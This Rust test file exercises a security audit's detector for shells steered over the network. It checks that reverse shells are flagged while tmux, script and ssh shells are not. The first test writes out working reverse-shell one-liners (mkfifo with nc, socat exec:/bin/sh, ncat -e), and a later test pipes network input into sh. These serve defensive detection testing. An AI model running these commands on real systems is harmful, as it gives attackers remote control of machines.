//! Shells that are steered over the network by another program, with the real tools, and what only looks like that.

use std::fs;

use tests::{Far, FarSocket, in_fresh_netns, until};

use super::Audit;
use crate::actor;
use crate::tools::{LOOP, SAID, Scene};

/// Shell code that says which process it is, in words that its own echo on a terminal does not contain, and waits.
const WHO: &str = "printf 'pid %s/%s' $$ $((6*7)); read -r x\n";

/// The pid in the answer to [`WHO`].
fn pid_in(answer: &str) -> u32 {
    let said = answer.strip_suffix(SAID).and_then(|said| said.rsplit("pid ").next());
    said.and_then(|pid| pid.parse().ok()).unwrap_or_else(|| panic!("no pid: {answer:?}"))
}

/// Makes the shell at the other end of a connection say which process it is.
fn shell_at(controller: &FarSocket) -> u32 {
    controller.connected();
    controller.send(WHO);
    pid_in(&controller.receive_until(SAID))
}

#[test]
fn shell_behind_a_relay_is_a_finding() {
    in_fresh_netns(|| {
        let Some(mut scene) = Scene::new("audit::relays::shell_behind_a_relay_is_a_finding") else { return };
        scene.has("/tmp/loop.py", LOOP);
        let far = Far::away();
        let forms = [
            ("cat[", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc.openbsd IP PORT > /tmp/f"),
            ("nc.openbsd[", "mkfifo /tmp/g; sh -i < /tmp/g 2>&1 | nc.openbsd IP PORT > /tmp/g"),
            ("socat[", "exec socat tcp-connect:IP:PORT exec:/bin/sh,pty,stderr,setsid,sane"),
            ("socat[", "exec socat tcp-connect:IP:PORT exec:/bin/sh"),
            ("socat[", "exec socat tcp-connect:IP:PORT exec:/bin/sh,pipes"),
            ("ncat[", "exec ncat IP PORT -e /bin/sh"),
            ("python3[", "exec python3 /tmp/loop.py IP PORT /bin/sh"),
        ];
        // The same number of a terminal in another devpts.
        let Some(mut other) = Scene::new("audit::relays::shell_behind_a_relay_is_a_finding") else { return };
        other.has("/tmp/emulator.py", EMULATOR);
        let mut display = actor();
        display.say("listen 127.0.0.1:6010 8");
        other.answers(&["/usr/bin/python3", "/tmp/emulator.py", "127.0.0.1", "6010"], "");
        let mut steered = Vec::new();
        for (port, (relay, line)) in (4440..).zip(forms) {
            let controller = far.listen(port);
            let line = line.replace("IP", &far.ip).replace("PORT", &port.to_string());
            scene.start(&["/bin/bash", "-c", &line]);
            steered.push((shell_at(&controller), port, relay, line, controller));
        }
        let audit = Audit::take(&[]);
        let found = audit.findings("stdio-on-socket");
        for (pid, port, relay, line, _controller) in &steered {
            let finding = found.iter().find(|finding| finding["process"]["pid"] == *pid);
            let finding = finding.unwrap_or_else(|| panic!("{line}: no finding about {pid}: {found:#?}"));
            assert!(finding["severity"] == "high" || finding["severity"] == "critical", "{line}: {finding}");
            let evidence = finding["evidence"].as_str().unwrap();
            let remote = format!("{}:{port}", far.ip);
            assert!(evidence.contains(relay) && evidence.contains(&remote), "{line}: {evidence}");
        }
        assert_eq!(found.len(), steered.len(), "{found:#?}");
        assert_eq!(audit.status, Some(3));
    });
}

/// Has a terminal with a shell, and a connection.
const EMULATOR: &str = "import os, socket, sys
master, terminal = os.openpty()
pid = os.fork()
if pid == 0:
    os.setsid()
    for fd in (0, 1, 2):
        os.dup2(terminal, fd)
    os.execv('/bin/sh', ['/bin/sh', '-i'])
os.close(terminal)
os.read(master, 100)
c = socket.create_connection((sys.argv[1], int(sys.argv[2])))
print('pid %d/42' % pid, end='', flush=True)
sys.stdin.read()
";

/// A shell that waits with its output on the way to somebody, or its input from there, but not both.
const HALF: &str = "read -r x < /tmp/never";

/// A command for the server of [`harmless_shells_are_no_findings`].
fn tmux<'a>(words: &[&'a str]) -> Vec<&'a str> {
    [&["/usr/bin/tmux", "-L", "test"], words].concat()
}

#[test]
fn harmless_shells_are_no_findings() {
    in_fresh_netns(|| {
        let Some(mut scene) = Scene::new("audit::relays::harmless_shells_are_no_findings") else { return };
        scene.has("/tmp/emulator.py", EMULATOR);
        scene.has("/tmp/loop.py", LOOP);
        scene.has("/tmp/script.sh", &format!("printf 'pid %s/%s' $$ $((6*7)); {HALF}\n"));
        scene.output(&["/usr/bin/mkfifo", "/tmp/never"]);
        let far = Far::away();
        let mut display = actor();
        display.say("listen 127.0.0.1:6010 8");
        let mut shells = Vec::new();

        // A shell of tmux's, and one of script's, whose terminal is of tmux's.
        scene.start(&["/usr/bin/tmux", "-D", "-L", "test"]);
        until("tmux is there", || {
            scene
                .debian
                .inside(|| tests::output(&mut Scene::command(&tmux(&["start-server"]))))
                .status
                .success()
        });
        for (name, command) in [("tmux", "sh"), ("script", "script -qc sh /dev/null")] {
            scene.output(&tmux(&["new-session", "-d", "-s", name, command]));
            scene.output(&tmux(&["send-keys", "-t", name, "echo $$ > /tmp/pid", "Enter"]));
            let mut said = String::new();
            until("the shell has its line", || {
                said = scene.debian.inside(|| fs::read_to_string("/tmp/pid").unwrap_or_default());
                said.ends_with('\n')
            });
            scene.debian.inside(|| fs::remove_file("/tmp/pid").unwrap());
            shells.push((name, said.trim().parse().unwrap()));
        }

        let mut answer = |name, words: &[&str], input: &str| {
            shells.push((name, pid_in(&scene.answers(words, input))));
        };
        answer("to cat", &["/bin/bash", "-c", "sh /tmp/script.sh | cat"], "");
        answer("terminal emulator", &["/usr/bin/python3", "/tmp/emulator.py", "127.0.0.1", "6010"], "");

        // Their connection is to another host.
        let mut connected = Vec::new();
        for (port, line) in (4440..).zip([
            "sh /tmp/script.sh | nc.openbsd IP PORT",
            "cat /tmp/script.sh | sh | nc.openbsd IP PORT",
            "exec python3 /tmp/loop.py IP PORT bash -e /tmp/script.sh",
        ]) {
            let there = far.listen(port);
            let line = line.replace("IP", &far.ip).replace("PORT", &port.to_string());
            scene.start(&["/bin/bash", "-c", &line]);
            there.connected();
            // For the loop, which reads first.
            there.send("\n");
            shells.push(("with a connection", pid_in(&there.receive_until(SAID))));
            connected.push(there);
        }
        // From a connection, as `curl | sh`; a script that reads data, and one that is what is read.
        for (port, line) in (4450..).zip([
            "nc.openbsd IP PORT | (read -r x; exec sh /tmp/script.sh) > /tmp/out",
            "nc.openbsd IP PORT | sh > /tmp/out",
        ]) {
            let there = far.listen(port);
            let line = line.replace("IP", &far.ip).replace("PORT", &port.to_string());
            scene.start(&["/bin/bash", "-c", &line]);
            there.connected();
            there.send(&format!("printf 'pid %s/%s' $$ $((6*7)); {HALF}\n"));
            let mut said = String::new();
            until("the shell has read it", || {
                said = scene.debian.inside(|| fs::read_to_string("/tmp/out").unwrap_or_default());
                said.ends_with(SAID)
            });
            scene.debian.inside(|| fs::remove_file("/tmp/out").unwrap());
            shells.push(("from a connection", pid_in(&said)));
            connected.push(there);
        }
        let audit = Audit::take(&[]);
        let found = audit.findings("stdio-on-socket");
        assert!(found.is_empty(), "{shells:?}: {found:#?}");
        for (name, pid) in shells {
            assert!(fs::exists(format!("/proc/{pid}")).unwrap(), "{name} has ended");
        }
    });
}

/// An X server on another host has such a port, but so may who steers the shell.
#[test]
fn terminal_of_a_program_with_a_connection_to_another_host_is_a_finding() {
    in_fresh_netns(|| {
        let name = "audit::relays::terminal_of_a_program_with_a_connection_to_another_host_is_a_finding";
        let Some(mut scene) = Scene::new(name) else { return };
        scene.has("/tmp/emulator.py", EMULATOR);
        let far = Far::away();
        let _display = far.listen(6010);
        let shell = pid_in(&scene.answers(&["/usr/bin/python3", "/tmp/emulator.py", &far.ip, "6010"], ""));
        assert_eq!(Audit::take(&[]).finding("stdio-on-socket")["process"]["pid"], shell);
    });
}

#[test]
fn logins_by_ssh_are_no_findings() {
    in_fresh_netns(|| {
        let Some(mut scene) = Scene::new("audit::relays::logins_by_ssh_are_no_findings") else { return };
        scene.output(&["/bin/mkdir", "-p", "/run/sshd", "/root/.ssh"]);
        scene.output(&["/usr/bin/ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", "/root/.ssh/key"]);
        scene.output(&["/bin/cp", "/root/.ssh/key.pub", "/root/.ssh/authorized_keys"]);
        scene.start(&["/usr/sbin/sshd", "-D", "-o", "PidFile=/run/sshd/here.pid"]);
        until("sshd listens", || scene.debian.inside(|| fs::exists("/run/sshd/here.pid").unwrap()));
        let ssh = ["/usr/bin/ssh", "-i", "/root/.ssh/key", "-o", "StrictHostKeyChecking=no"];
        let (terminal, pipes) = (["-tt", "root@127.0.0.1"], ["root@127.0.0.1", "sh"]);
        let mut shells = Vec::new();
        for words in [&terminal[..], &pipes[..]] {
            shells.push(pid_in(&scene.answers(&[&ssh[..], words].concat(), WHO)));
        }
        let audit = Audit::take(&[]);
        audit.has_no("stdio-on-socket");
        for pid in shells {
            assert!(fs::exists(format!("/proc/{pid}")).unwrap(), "it has ended");
        }
    });
}
